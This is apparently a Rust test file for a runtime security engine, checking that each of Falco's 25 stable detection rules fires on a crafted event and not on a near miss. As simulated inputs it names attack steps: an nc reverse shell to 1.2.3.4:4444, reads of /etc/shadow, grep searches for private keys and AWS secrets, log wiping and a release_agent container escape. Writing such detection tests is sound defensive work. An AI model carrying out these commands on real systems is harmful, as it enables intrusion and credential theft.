//! Each of the 25 rules of Falco's stable ruleset fires on an event built for it, and a near
//! miss (one detail changed) does not fire it.

mod common;

use std::sync::Arc;

use common::*;
use rtsec_format::{Args, Kind, PathArg, ProcessInfo, SockAddr};
use rtsec_rules::{Engine, EngineOptions, HostTable, RuleMatching};

const CAP_SYS_MODULE: u64 = 1 << 16;
const CAP_SYS_ADMIN: u64 = 1 << 21;
const O_WRONLY: u32 = 1;
const O_TRUNC: u32 = 0o1000;
const O_APPEND: u32 = 0o2000;

fn eng() -> Engine {
    let mut hosts = HostTable::new();
    hosts.insert(
        "kubernetes.default.svc.cluster.local",
        "10.96.0.1".parse().unwrap(),
    );
    Engine::new(
        &stable(),
        EngineOptions {
            rule_matching: RuleMatching::All,
            hosts,
            ..Default::default()
        },
    )
}

fn s(x: &str) -> &'static [u8] {
    Box::leak(x.as_bytes().to_vec().into_boxed_slice())
}

/// Asserts `rule` fires on `hit` and not on `miss`.
fn check(rule: &str, hit: rtsec_format::Block, miss: rtsec_format::Block) {
    let e = eng();
    let got = fired(&e, &hit);
    assert!(
        got.iter().any(|r| r == rule),
        "{rule}: did not fire; fired {got:?}"
    );
    let got = fired(&e, &miss);
    assert!(
        !got.iter().any(|r| r == rule),
        "{rule}: fired on the near miss; fired {got:?}"
    );
}

fn open_raw(p: &Arc<ProcessInfo>, raw: &str, resolved: &str, flags: u32) -> rtsec_format::Block {
    let fd = Arc::new(rtsec_format::FdInfo {
        nameraw: raw.into(),
        ..(*file_fd(3, resolved, flags)).clone()
    });
    block(
        Kind::Openat,
        p,
        Some(&fd),
        Args::Open {
            dirfd: rtsec_format::AT_FDCWD,
            path: PathArg {
                raw: s(raw),
                resolved: s(resolved),
            },
            flags,
            mode: 0,
            resolve: 0,
            dev: 0,
            ino: 0,
        },
        3,
    )
}

#[test]
fn r01_directory_traversal_monitored_file_read() {
    let py = chain(&["systemd", "python3"], None);
    let bash_child = chain(&["systemd", "bash", "cat"], None);
    check(
        "Directory traversal monitored file read",
        open_raw(&py, "/tmp/../../etc/passwd", "/etc/passwd", 0),
        open_raw(&bash_child, "/tmp/../../etc/passwd", "/etc/passwd", 0),
    );
    // One `../` is not a traversal in Falco's sense either.
    let e = eng();
    assert!(
        !fired(&e, &open_raw(&py, "../etc/passwd", "/etc/passwd", 0))
            .contains(&"Directory traversal monitored file read".to_string())
    );
}

#[test]
fn r02_read_sensitive_file_trusted_after_startup() {
    let old = P::new("nginx").started(TS - 60_000_000_000).build();
    let new = P::new("nginx").started(TS - 1_000_000_000).build();
    check(
        "Read sensitive file trusted after startup",
        openat(&old, "/etc/shadow", 0, 3),
        openat(&new, "/etc/shadow", 0, 3),
    );
}

#[test]
fn r03_read_sensitive_file_untrusted() {
    let p = chain(&["systemd", "bash", "python3"], None);
    check(
        "Read sensitive file untrusted",
        openat(&p, "/etc/shadow", 0, 3),
        openat(&p, "/etc/hostname", 0, 3),
    );
    // A failed open is not a read.
    let e = eng();
    assert!(fired(&e, &openat(&p, "/etc/shadow", 0, -13)).is_empty());
}

#[test]
fn r04_run_shell_untrusted() {
    let hit = chain(&["systemd", "nginx", "bash"], None);
    let miss = chain(&["systemd", "sshd", "bash"], None);
    check("Run shell untrusted", exec(&hit), exec(&miss));
}

#[test]
fn r05_system_user_interactive() {
    let sshd = chain(&["systemd", "sshd"], None);
    let hit = P::new("ls").parent(&sshd).uid(33, Some("www-data")).build();
    let miss = P::new("ls").parent(&sshd).uid(1000, Some("alice")).build();
    check("System user interactive", exec(&hit), exec(&miss));
}

#[test]
fn r06_terminal_shell_in_container() {
    let c = container("docker.io/library/nginx", false);
    let runc = P::new("runc").in_container(&c).build();
    let hit = P::new("bash")
        .in_container(&c)
        .parent(&runc)
        .tty(34816)
        .build();
    let miss = P::new("bash").in_container(&c).parent(&runc).tty(0).build();
    check("Terminal shell in container", exec(&hit), exec(&miss));
}

fn connect(p: &Arc<ProcessInfo>, client: &str, server: &str, res: i64) -> rtsec_format::Block {
    let fd = tcp_fd(3, client, server, false);
    let sa: std::net::SocketAddr = server.parse().unwrap();
    block(
        Kind::Connect,
        p,
        Some(&fd),
        Args::Connect {
            fd: 3,
            addr: SockAddr::Inet {
                ip: sa.ip(),
                port: sa.port(),
            },
        },
        res,
    )
}

#[test]
fn r07_contact_k8s_api_server_from_container() {
    let c = container("docker.io/library/alpine", false);
    let p = P::new("curl").in_container(&c).build();
    check(
        "Contact K8S API Server From Container",
        connect(&p, "172.17.0.2:40000", "10.96.0.1:443", 0),
        connect(&p, "172.17.0.2:40000", "10.96.0.2:443", 0),
    );
}

#[test]
fn r08_netcat_remote_code_execution_in_container() {
    let c = container("docker.io/library/alpine", false);
    let hit = P::new("nc")
        .in_container(&c)
        .args(&["-e", "/bin/sh", "1.2.3.4", "4444"])
        .build();
    let miss = P::new("nc").in_container(&c).args(&["-l", "4444"]).build();
    check(
        "Netcat Remote Code Execution in Container",
        exec(&hit),
        exec(&miss),
    );
}

#[test]
fn r09_search_private_keys_or_passwords() {
    let hit = P::new("grep")
        .args(&["-r", "BEGIN RSA PRIVATE", "/home"])
        .build();
    let miss = P::new("grep").args(&["-r", "hello", "/home"]).build();
    check("Search Private Keys or Passwords", exec(&hit), exec(&miss));
}

#[test]
fn r10_clear_log_activities() {
    let p = P::new("python3").build();
    check(
        "Clear Log Activities",
        openat(&p, "/var/log/syslog", O_WRONLY | O_TRUNC, 3),
        openat(&p, "/var/log/syslog", O_WRONLY | O_APPEND, 3),
    );
}

#[test]
fn r11_remove_bulk_data_from_disk() {
    check(
        "Remove Bulk Data from Disk",
        exec(&P::new("shred").args(&["-u", "/data/x"]).build()),
        exec(&P::new("rm").args(&["-f", "/data/x"]).build()),
    );
}

fn symlinkat(target: &str) -> rtsec_format::Block {
    let p = P::new("ln").build();
    block(
        Kind::Symlinkat,
        &p,
        None,
        Args::Symlink {
            target: s(target),
            linkdirfd: rtsec_format::AT_FDCWD,
            linkpath: PathArg::same(s("/tmp/link")),
        },
        0,
    )
}

#[test]
fn r12_create_symlink_over_sensitive_files() {
    check(
        "Create Symlink Over Sensitive Files",
        symlinkat("/etc/shadow"),
        symlinkat("/tmp/notes"),
    );
}

fn linkat(old: &str) -> rtsec_format::Block {
    let p = P::new("ln").build();
    block(
        Kind::Linkat,
        &p,
        None,
        Args::TwoPaths {
            olddirfd: rtsec_format::AT_FDCWD,
            oldpath: PathArg::same(s(old)),
            newdirfd: rtsec_format::AT_FDCWD,
            newpath: PathArg::same(s("/tmp/hard")),
            flags: 0,
        },
        0,
    )
}

#[test]
fn r13_create_hardlink_over_sensitive_files() {
    check(
        "Create Hardlink Over Sensitive Files",
        linkat("/etc/shadow"),
        linkat("/tmp/notes"),
    );
}

fn socket(domain: u32) -> rtsec_format::Block {
    let c = container("docker.io/library/alpine", false);
    let p = P::new("tcpdump").in_container(&c).build();
    block(
        Kind::Socket,
        &p,
        None,
        Args::Socket {
            domain,
            ty: 3,
            proto: 768,
        },
        3,
    )
}

#[test]
fn r14_packet_socket_created_in_container() {
    check("Packet socket created in container", socket(17), socket(2));
}

fn dup2(socket_fd: bool) -> rtsec_format::Block {
    let c = container("docker.io/library/alpine", false);
    let p = P::new("sh").in_container(&c).build();
    let fd = if socket_fd {
        tcp_fd(3, "172.17.0.2:40000", "1.2.3.4:4444", false)
    } else {
        file_fd(3, "/tmp/out", 1)
    };
    block(
        Kind::Dup2,
        &p,
        Some(&fd),
        Args::Dup {
            oldfd: 3,
            newfd: 1,
            flags: 0,
        },
        1,
    )
}

#[test]
fn r15_redirect_stdout_stdin_to_network_connection_in_container() {
    check(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        dup2(true),
        dup2(false),
    );
}

fn finit_module(caps: u64) -> rtsec_format::Block {
    let c = container("docker.io/library/alpine", false);
    let p = P::new("insmod").in_container(&c).caps(caps).build();
    block(
        Kind::FinitModule,
        &p,
        None,
        Args::FinitModule {
            fd: 3,
            uargs: s(""),
            flags: 0,
        },
        0,
    )
}

#[test]
fn r16_linux_kernel_module_injection_detected() {
    check(
        "Linux Kernel Module Injection Detected",
        finit_module(CAP_SYS_MODULE | CAP_SYS_ADMIN),
        finit_module(CAP_SYS_ADMIN),
    );
}

#[test]
fn r17_debugfs_launched_in_privileged_container() {
    let priv_c = container("docker.io/library/ubuntu", true);
    let c = container("docker.io/library/ubuntu", false);
    check(
        "Debugfs Launched in Privileged Container",
        exec(&P::new("debugfs").in_container(&priv_c).build()),
        exec(&P::new("debugfs").in_container(&c).build()),
    );
}

#[test]
fn r18_detect_release_agent_file_container_escapes() {
    let c = container("docker.io/library/ubuntu", false);
    let hit = P::new("sh").in_container(&c).caps(CAP_SYS_ADMIN).build();
    let miss = P::new("sh").in_container(&c).caps(0).build();
    let path = "/sys/fs/cgroup/rdma/release_agent";
    check(
        "Detect release_agent File Container Escapes",
        openat(&hit, path, O_WRONLY, 3),
        openat(&miss, path, O_WRONLY, 3),
    );
}

fn ptrace(request: u32) -> rtsec_format::Block {
    let p = P::new("gdb").build();
    block(
        Kind::Ptrace,
        &p,
        None,
        Args::Ptrace {
            request,
            pid: 4242,
            addr: 0,
            data: 0,
        },
        0,
    )
}

#[test]
fn r19_ptrace_attached_to_process() {
    // x86_64 PTRACE_ATTACH = 16; PTRACE_PEEKDATA = 2.
    check("PTRACE attached to process", ptrace(16), ptrace(2));
    check("PTRACE attached to process", ptrace(0x4206), ptrace(7));
}

#[test]
fn r20_ptrace_anti_debug_attempt() {
    // PTRACE_TRACEME = 0; PTRACE_CONT = 7.
    check("PTRACE anti-debug attempt", ptrace(0), ptrace(7));
    let e = eng();
    // The two ptrace rules are disjoint.
    assert_eq!(fired(&e, &ptrace(0)), ["PTRACE anti-debug attempt"]);
    assert_eq!(fired(&e, &ptrace(16)), ["PTRACE attached to process"]);
}

#[test]
fn r21_find_aws_credentials() {
    check(
        "Find AWS Credentials",
        exec(
            &P::new("grep")
                .args(&["-r", "aws_secret_access_key", "/"])
                .build(),
        ),
        exec(&P::new("grep").args(&["-r", "hostname", "/"]).build()),
    );
}

#[test]
fn r22_execution_from_dev_shm() {
    check(
        "Execution from /dev/shm",
        exec(&P::new("x").exe("/dev/shm/x").build()),
        exec(&P::new("x").exe("/usr/local/bin/x").build()),
    );
    // cwd in /dev/shm and ./x: libsinsp's cwd has a trailing '/'.
    let e = eng();
    let p = P::new("x").exe("./x").cwd("/dev/shm").build();
    assert!(fired(&e, &exec(&p)).contains(&"Execution from /dev/shm".to_string()));
}

#[test]
fn r23_drop_and_execute_new_binary_in_container() {
    let c = container("docker.io/library/alpine", false);
    check(
        "Drop and execute new binary in container",
        exec(&P::new("payload").in_container(&c).upper_layer().build()),
        exec(&P::new("payload").in_container(&c).build()),
    );
}

#[test]
fn r24_disallowed_ssh_connection_non_standard_port() {
    let p = P::new("ssh").exe("/usr/bin/ssh").build();
    check(
        "Disallowed SSH Connection Non Standard Port",
        connect(&p, "10.0.0.5:40000", "8.8.8.8:443", 0),
        connect(&p, "10.0.0.5:40000", "8.8.8.8:22", 0),
    );
    // EINPROGRESS counts as an attempt; a private server address does not.
    let e = eng();
    let r = "Disallowed SSH Connection Non Standard Port".to_string();
    assert!(fired(&e, &connect(&p, "10.0.0.5:40000", "8.8.8.8:443", -115)).contains(&r));
    assert!(!fired(&e, &connect(&p, "10.0.0.5:40000", "10.0.0.9:443", 0)).contains(&r));
    assert!(!fired(&e, &connect(&p, "10.0.0.5:40000", "8.8.8.8:443", -111)).contains(&r));
}

#[test]
fn r25_fileless_execution_via_memfd_create() {
    check(
        "Fileless execution via memfd_create",
        exec(&P::new("3").exe("memfd:x").memfd().build()),
        exec(&P::new("3").exe("/tmp/x").build()),
    );
}

#[test]
fn rule_matching_first_stops_at_the_first_rule() {
    // nginx reading /etc/shadow long after start matches rules 2 and 3; `first` reports rule 2.
    let p = P::new("nginx").started(TS - 60_000_000_000).build();
    let b = openat(&p, "/etc/shadow", 0, 3);
    let all = fired(&eng(), &b);
    assert_eq!(
        all,
        [
            "Read sensitive file trusted after startup",
            "Read sensitive file untrusted"
        ]
    );
    let first = fired(&engine(&stable(), RuleMatching::First), &b);
    assert_eq!(first, ["Read sensitive file trusted after startup"]);
}
